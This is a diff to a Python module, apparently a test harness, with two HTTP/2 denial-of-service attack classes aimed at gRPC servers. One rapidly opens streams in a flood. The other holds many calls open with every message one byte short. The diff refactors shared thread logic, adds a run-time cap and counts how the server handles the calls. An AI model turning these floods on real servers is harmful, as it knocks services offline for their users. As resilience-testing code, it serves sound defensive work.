@@ -5,6 +5,7 @@ from __future__ import annotations
 import socket
 import threading
 import time
+from collections import Counter
 from collections.abc import Callable, Mapping
 from contextlib import suppress
 from types import TracebackType
@@ -15,11 +16,15 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
 _ACK = 1
 _FRAME_HEAD = 9
-_CANCEL = 8
+_NO_ERROR, _CANCEL = 0, 8
+# What gRPC says of calls that it does not show to the server: too many wait already, or are open on the connection.
+_CODES = {_CANCEL: "dropped", 7: "refused by gRPC", 11: "refused by gRPC"}
 # How many calls a flood writes at a time, and when it needs another connection.
 _AT_ONCE = 50
 _LAST_STREAM = 1_000_000
 PATIENCE = 30.0
+# An attack ends by then, whatever becomes of its test.
+LONGEST_SECONDS = 1200.0
 _END_STREAM, _END_HEADERS = 1, 4
 _INITIAL_WINDOW = 4
 
@@ -88,7 +93,49 @@ def reset(stream: int) -> bytes:
     return frame(_RST_STREAM, 0, stream, _CANCEL.to_bytes(4))
 
 
-class Flood:
+class _Attackers:
+    """Connections of their own, on a thread each, until they are stopped or `LONGEST_SECONDS` have passed.
+
+    `sent` is how many calls they have begun, and `ended` how many of those the server has ended: "served" with a
+    message, "refused" with a status alone, or "dropped" by gRPC before the server looked at them.
+    """
+
+    def __init__(self, connect_once: Callable[[], socket.socket], *, connections: int) -> None:
+        self._connect = connect_once
+        self._stopping = threading.Event()
+        self._until = 0.0
+        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
+        self.sent = 0
+        self.ended = Counter[str]()
+
+    def __enter__(self) -> Self:
+        self._until = time.monotonic() + LONGEST_SECONDS
+        for thread in self._threads:
+            thread.start()
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        self._stopping.set()
+        for thread in self._threads:
+            thread.join()
+
+    @property
+    def stopping(self) -> bool:
+        """Say whether it is over."""
+        return self._stopping.is_set() or time.monotonic() > self._until
+
+    def _run(self) -> None:
+        while not self.stopping:
+            with suppress(OSError), self._connect() as connection:
+                self._attack(connection)
+
+    def _attack(self, connection: socket.socket) -> None:
+        raise NotImplementedError
+
+
+class Flood(_Attackers):
     """Begins calls on connections of its own as fast as the server reads them, until it is stopped.
 
     `said` returns the bytes of one call on a stream; a connection that is closed, or has used up its streams, is made
@@ -103,30 +150,12 @@ class Flood:
         connections: int,
         hold: int = 0,
     ) -> None:
-        self._connect, self._said, self._hold = connect_once, said, hold
-        self._stopping = threading.Event()
-        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
-        self.sent = 0
+        super().__init__(connect_once, connections=connections)
+        self._said, self._hold = said, hold
 
-    def __enter__(self) -> Self:
-        for thread in self._threads:
-            thread.start()
-        return self
-
-    def __exit__(
-        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
-    ) -> None:
-        self._stopping.set()
-        for thread in self._threads:
-            thread.join()
-
-    def _run(self) -> None:
-        while not self._stopping.is_set():
-            with suppress(OSError), self._connect() as connection:
-                self._flood(connection)
-
-    def _flood(self, connection: socket.socket) -> None:
+    def _attack(self, connection: socket.socket) -> None:
         connection.sendall(PREFACE + settings(window=65535))
+        frames = _Frames(self.ended)
         # So many at a time, and what the server says in between is read, so that it goes on reading.
         many, pause = (self._hold, 1.0) if self._hold else (_AT_ONCE, 0.001)
         for first in range(1, _LAST_STREAM, 2 * many):
@@ -134,16 +163,20 @@ class Flood:
             connection.sendall(b"".join(self._said(stream) for stream in range(first, first + 2 * many, 2)))
             self.sent += many
             until = time.monotonic() + pause
-            while not self._stopping.is_set() and (left := until - time.monotonic()) > 0:
+            while not self.stopping and (left := until - time.monotonic()) > 0:
                 connection.settimeout(left)
                 with suppress(TimeoutError):
-                    if not connection.recv(1 << 16):
+                    received = connection.recv(1 << 16)
+                    if not received:
                         return
-            if self._stopping.is_set():
+                    connection.settimeout(PATIENCE)
+                    for one in frames.read(received):
+                        connection.sendall(_acknowledgement(*one))
+            if self.stopping:
                 return
 
 
-class HalfSent:
+class HalfSent(_Attackers):
     """Begins calls on connections of its own and sends the message of each but for its last byte, until it is stopped.
 
     `begin_call` returns the bytes that begin one on a stream, and `size` is what a message says that it has; `before`
@@ -160,28 +193,12 @@ class HalfSent:
         calls: int,
         before: bytes = b"",
     ) -> None:
-        self._connect, self._begin, self._calls = connect_once, begin_call, calls
+        super().__init__(connect_once, connections=connections)
+        self._begin, self._calls = begin_call, calls
         self._message = before + b"\0" + size.to_bytes(4) + bytes(size - 1)
-        self._stopping = threading.Event()
-        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
-        self.sent = 0
 
-    def __enter__(self) -> Self:
-        for thread in self._threads:
-            thread.start()
-        return self
-
-    def __exit__(
-        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
-    ) -> None:
-        self._stopping.set()
-        for thread in self._threads:
-            thread.join()
-
-    def _run(self) -> None:
-        while not self._stopping.is_set():
-            with suppress(OSError), self._connect() as connection:
-                _Halves(connection, self._message).keep(self)
+    def _attack(self, connection: socket.socket) -> None:
+        _Halves(connection, self._message).keep(self)
 
     def next_call(self, stream: int) -> bytes:
         """Return what begins a call, and count it."""
@@ -193,10 +210,46 @@ class HalfSent:
         """Return how many calls a connection keeps."""
         return self._calls
 
-    @property
-    def stopping(self) -> bool:
-        """Say whether it is over."""
-        return self._stopping.is_set()
+
+class _Frames:
+    """What the server says on one connection, cut into frames; `ended` counts what it does with calls."""
+
+    def __init__(self, ended: Counter[str]) -> None:
+        self._ended = ended
+        self._received = b""
+        self._served: set[int] = set()
+
+    def read(self, received: bytes) -> list[tuple[int, int, int, bytes]]:
+        """Return kind, flags, stream and payload of the frames that are complete now."""
+        self._received += received
+        frames, start = [], 0
+        while len(self._received) >= start + _FRAME_HEAD:
+            head = self._received[start : start + _FRAME_HEAD]
+            end = start + _FRAME_HEAD + int.from_bytes(head[:3])
+            if len(self._received) < end:
+                break
+            stream = int.from_bytes(head[5:]) & 0x7FFFFFFF
+            frames.append((head[3], head[4], stream, self._received[start + _FRAME_HEAD : end]))
+            self._count(*frames[-1])
+            start = end
+        self._received = self._received[start:]
+        return frames
+
+    def _count(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
+        if kind == _DATA:
+            self._served.add(stream)
+        elif kind == _HEADERS and flags & _END_STREAM:
+            self._ended["served" if stream in self._served else "refused"] += 1
+            self._served.discard(stream)
+        elif kind == _RST_STREAM and (code := int.from_bytes(payload)) != _NO_ERROR:
+            self._ended[_CODES.get(code, f"reset with {code}")] += 1
+
+
+def _acknowledgement(kind: int, flags: int, _: int, payload: bytes) -> bytes:
+    """Return what a frame is to be answered with, or nothing: gRPC refuses calls of those who answer no settings."""
+    if flags & _ACK or kind not in {_PING, _SETTINGS}:
+        return b""
+    return frame(kind, _ACK, 0, payload if kind == _PING else b"")
 
 
 class _Halves:
@@ -204,7 +257,6 @@ class _Halves:
 
     def __init__(self, connection: socket.socket, message: bytes) -> None:
         self._connection, self._message = connection, message
-        self._received = b""
         self._next_stream = 1
         # Of the connection (0) and of each stream, how much the server lets come; and how much of each was sent.
         self._windows = {0: 65535}
@@ -213,8 +265,10 @@ class _Halves:
 
     def keep(self, attack: HalfSent) -> None:
         """Begin calls and send their messages until the attack is over, or the connection."""
+        frames = _Frames(attack.ended)
         self._connection.sendall(PREFACE + settings(window=65535))
         while not attack.stopping and self._next_stream < _LAST_STREAM:
+            self._connection.settimeout(PATIENCE)
             while len(self._sent) < attack.calls:
                 self._connection.sendall(attack.next_call(self._next_stream))
                 self._sent[self._next_stream], self._windows[self._next_stream] = 0, self._first_window
@@ -222,13 +276,15 @@ class _Halves:
             for stream in self._sent:
                 self._send(stream)
             self._connection.settimeout(0.05)
-            with suppress(TimeoutError):
+            try:
                 received = self._connection.recv(1 << 20)
-                if not received:
-                    return
-                self._received += received
+            except TimeoutError:
+                continue
+            if not received:
+                return
             self._connection.settimeout(PATIENCE)
-            self._read_frames()
+            for one in frames.read(received):
+                self._read(*one)
 
     def _send(self, stream: int) -> None:
         while room := min(1 << 14, len(self._message) - self._sent[stream], self._windows[0], self._windows[stream]):
@@ -240,29 +296,17 @@ class _Halves:
             self._windows[0] -= room
             self._windows[stream] -= room
 
-    def _read_frames(self) -> None:
-        while len(self._received) >= _FRAME_HEAD:
-            end = _FRAME_HEAD + int.from_bytes(self._received[:3])
-            if len(self._received) < end:
-                return
-            kind, flags = self._received[3], self._received[4]
-            stream = int.from_bytes(self._received[5:9]) & 0x7FFFFFFF
-            self._read(kind, flags, stream, self._received[_FRAME_HEAD:end])
-            self._received = self._received[end:]
-
     def _read(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
         if kind == _WINDOW_UPDATE and stream in self._windows:
             self._windows[stream] += int.from_bytes(payload)
         elif kind == _RST_STREAM or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
             self._sent.pop(stream, None)
             self._windows.pop(stream, None)
-        elif kind == _PING and not flags & _ACK:
-            self._connection.sendall(frame(_PING, _ACK, 0, payload))
         elif kind == _SETTINGS and not flags & _ACK:
             for place in range(0, len(payload), 6):
                 if int.from_bytes(payload[place : place + 2]) == _INITIAL_WINDOW:
                     self._resize(int.from_bytes(payload[place + 2 : place + 6]))
-            self._connection.sendall(frame(_SETTINGS, _ACK, 0))
+        self._connection.sendall(_acknowledgement(kind, flags, stream, payload))
 
     def _resize(self, window: int) -> None:
         for stream in self._sent:
